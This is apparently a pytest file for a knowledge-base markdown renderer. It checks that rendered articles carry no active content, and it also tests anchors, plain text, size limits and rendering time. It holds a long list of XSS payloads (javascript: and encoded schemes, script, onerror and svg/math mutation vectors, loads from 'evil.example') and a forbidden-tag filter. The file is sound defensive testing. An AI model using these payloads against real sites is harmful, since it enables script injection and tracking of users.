"""Articles on the page: what is rendered, what is refused, where the anchors point."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kb.markdown import MAX_ARTICLE_BYTES, MAX_ARTICLE_LINES, Heading, outline, plain_text, render

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://example.com/1",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "//evil.example",
    "\\\\evil.example",
    "/\\evil.example",
    "\\/evil.example",
    "/\t/evil.example",
    "&#47;&#47;evil.example",
    "\u200b//evil.example",
]
RAW = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" />',
    "<img src=https://evil.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='https://evil.example/a 1x' src=a.png>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img style='background:url(https://evil.example)' src=a.png>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=https://evil.example/p.png></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<div style='position:fixed;inset:0;background:url(javascript:alert(1))'>x</div>",
    "<div onclick=alert(1)>x</div>",
    "<div onmouseover='alert(1)' onpointerenter=alert(1)>x</div>",
    "<p class=button data-action=delete onx=alert(1)>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='&#x2F;&#x2F;evil.example'>x</a>",
    "<a href=data:text/html,x>x</a>",
    "<a target=_blank onclick=alert(1) href=https://example.com>x</a>",
    "<a ping=https://evil.example href=https://example.com>x</a>",
    "<a name=csrftoken id=csrftoken>x</a>",
    "<h2 id=csrftoken name=cookie>x</h2>",
    "<table background=javascript:alert(1)><td background=//evil.example>x</table>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!doctype x [<!entity e '<script>alert(1)</script>'>]>&e;",
    "<b><script>alert(1)</script></b>",
    "<p><svg><p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<isindex action=javascript:alert(1)>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<portal src=https://evil.example></portal>",
    "<slot onslotchange=alert(1)></slot>",
    "<blink onclick=alert(1)>x</blink>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=javascript:alert(1)></layer>",
    "<x onclick=alert(1) style='x:expression(alert(1))'>x",
]
MARKDOWN = [
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x](a.png"onerror="alert(1))',
    '[x](https://example.com "onmouseover=alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<//evil.example>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "# <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "- <iframe src=javascript:alert(1)>",
    "[a](javascript:alert`1`) ![b](javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
PAYLOADS = [
    *RAW,
    *MARKDOWN,
    *(f"[x]({url})" for url in SCHEMES),
    *(f"[x](<{url}>)" for url in SCHEMES),
    *(f'<a href="{url}">x</a>' for url in SCHEMES),
    *(f'<img src="{url}">' for url in SCHEMES),
]
FORBIDDEN_TAGS = set(
    """
    script style iframe object embed applet form input button select textarea svg math video audio
    source link meta base body html frame frameset template noscript title xmp plaintext listing
    details dialog
    """.split()  # noqa: SIM905 (a word list reads better)
)
ALLOWED_ATTRIBUTES = {
    "href",
    "src",
    "alt",
    "title",
    "rel",
    "id",
    "start",
    "width",
    "height",
    "colspan",
    "rowspan",
}


class _Page(HTMLParser):
    """What a browser would find in the rendered article."""

    def __init__(self, markup):
        super().__init__()
        self.tags, self.attributes = [], []
        self.feed(markup)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def active_content(markup):
    """Return everything in ``markup`` that could run, load or lead astray."""
    page = _Page(markup)
    bad = [tag for tag in page.tags if tag in FORBIDDEN_TAGS]
    for name, value in page.attributes:
        seen = "".join(c for c in value if c > " " and c != "\u200b").lower().replace("\\", "/")
        if name not in ALLOWED_ATTRIBUTES or (name in {"href", "src"} and seen.startswith("//")):
            bad.append(f"{name}={value}")
        if (
            name == "href"
            and ":" in seen.split("/")[0]
            and not seen.startswith(("http:", "https:", "mailto:"))
        ):
            bad.append(f"{name}={value}")
        if name == "src" and ":" in seen.split("/")[0]:
            bad.append(f"{name}={value}")
    return bad


@pytest.mark.row("R19", "8.7")
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_rendered_article_has_no_active_content(payload):
    for article in (payload, f"Text {payload} text", f"# Title\n\n{payload}\n\n- {payload}\n"):
        assert active_content(render(article)) == []


def test_the_payload_list_is_long_enough():
    assert len(PAYLOADS) >= 100


def test_the_check_itself_sees_active_content():
    assert active_content("<p onclick=x>") == ["onclick=x"]
    assert active_content("<a href='//evil.example'>") == ["href=//evil.example"]
    assert active_content("<img src='https://evil.example/a.png'>") == ["src=https://evil.example/a.png"]


@given(
    st.lists(
        st.sampled_from([*RAW, *MARKDOWN, "\n\n", "**", "`", "<", ">", '"', "'", "-->", "]]>"]), max_size=5
    )
)
def test_no_mixture_of_payloads_becomes_active(parts):
    assert active_content(render("".join(parts))) == []


def test_an_article_renders_as_written():
    assert render("# Title\n\nOpen **Settings**.\n\n1. One\n2. Two") == (
        '<h1 id="title">Title</h1>\n<p>Open <strong>Settings</strong>.</p>\n'
        "<ol>\n<li>One</li>\n<li>Two</li>\n</ol>\n"
    )


def test_links_of_all_kinds_keep_their_targets():
    assert render("[a](https://example.com/x) [b](/billing) [c](#top) [d](mailto:a@example.com)") == (
        '<p><a href="https://example.com/x" rel="nofollow noopener noreferrer">a</a> '
        '<a href="/billing" rel="nofollow noopener noreferrer">b</a> '
        '<a href="#top" rel="nofollow noopener noreferrer">c</a> '
        '<a href="mailto:a@example.com" rel="nofollow noopener noreferrer">d</a></p>\n'
    )


def test_own_images_stay_and_remote_ones_keep_only_their_words():
    assert render("![Map](/media/map.png)") == '<p><img src="/media/map.png" alt="Map"></p>\n'
    assert render("![Map](https://evil.example/map.png)") == '<p><img alt="Map"></p>\n'


def test_an_article_above_the_cap_is_refused():
    with pytest.raises(ValueError, match="100000 bytes"):
        render("ä" * (MAX_ARTICLE_BYTES // 2 + 1))
    with pytest.raises(ValueError, match="5000 lines"):
        render("a\n" * (MAX_ARTICLE_LINES + 1))


@pytest.mark.row("R19")
@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "![",
        "*a **a ",
        "`",
        "> ",
        "- ",
        "<",
        "# a\n",
        "a|b\n-|-\n",
        "[a](",
        "<div>",
        "<x><hr>",
        "<b></p>",
        "<center>",
        "<div title='</div>'>",
        "&#0;",
        "~~",
        "1. ",
        "[x]: /y\n",
    ],
)
def test_a_pathological_article_of_full_size_renders_in_linear_time(unit):
    article = (unit * (MAX_ARTICLE_BYTES // len(unit)))[:MAX_ARTICLE_BYTES]
    article = "\n".join(article.split("\n")[:MAX_ARTICLE_LINES])
    started = time.process_time()
    render(article)
    assert time.process_time() - started < 10  # linear: takes about a second; quadratic would take minutes


@pytest.mark.row("2.14")
def test_the_outline_gives_level_text_anchor_and_line():
    assert outline("# How do I pay?\n\nText\n\n## By `card`\n\n## By card\n\n### 😀\n") == [
        Heading(1, "How do I pay?", "how-do-i-pay", 1),
        Heading(2, "By card", "by-card", 5),
        Heading(2, "By card", "by-card-1", 7),
        Heading(3, "😀", "section", 9),
    ]


@given(st.lists(st.sampled_from(["A", "a", "A 1", "a-1", "!", "B"]), max_size=12))
def test_anchors_are_unique_and_are_the_ids_of_the_page(headings):
    article = "\n\n".join(f"## {heading}" for heading in headings)
    anchors = [heading.anchor for heading in outline(article)]
    assert len(set(anchors)) == len(headings)
    assert [value for name, value in _Page(render(article)).attributes if name == "id"] == anchors


def test_an_edit_below_a_heading_keeps_its_anchor():
    before = outline("# T\n\n## Fees\n\nOld text")
    after = outline("# T\n\n## Fees\n\nNew text\n\n## More")
    assert [heading.anchor for heading in after[:2]] == [heading.anchor for heading in before]


def test_plain_text_has_the_words_and_no_markup():
    assert (
        plain_text(
            "# T\n\nA **b** [c](https://example.com)[^1] ![pic](x.png)\n\n<div>d &amp; e</div>\n\n"
            "|f|g|\n|-|-|\n|h|i|\n"
        )
        == "T\nA b c pic\nd & e\nf\ng\nh\ni"
    )


def test_raw_html_nested_too_deep_shows_as_text():
    assert (
        render("## A\n\n" + "<div>" * 99 + "seen")
        == '<h2 id="a">A</h2>\n' + "<div>" * 99 + "seen" + "</div>" * 99
    )
    assert render("## A\n\n" + "<div>" * 101 + "seen") == (
        '<h2 id="a">A</h2>\n<p>' + "&lt;div&gt;" * 101 + "seen</p>\n"
    )


def test_a_long_table_in_html_is_not_deep():
    table = "<table>" + "<tr><td>a<td><b>b</b><br></tr>" * 300 + "</table>"
    assert render(table).count("<td>") == 600


def test_ids_of_raw_html_do_not_reach_the_page():
    assert render("## Fees\n\n<h2 id=csrftoken>x</h2>\n\n<a id=fees>y</a>") == (
        '<h2 id="fees">Fees</h2>\n<h2>x</h2>\n<p><a rel="nofollow noopener noreferrer">y</a></p>\n'
    )
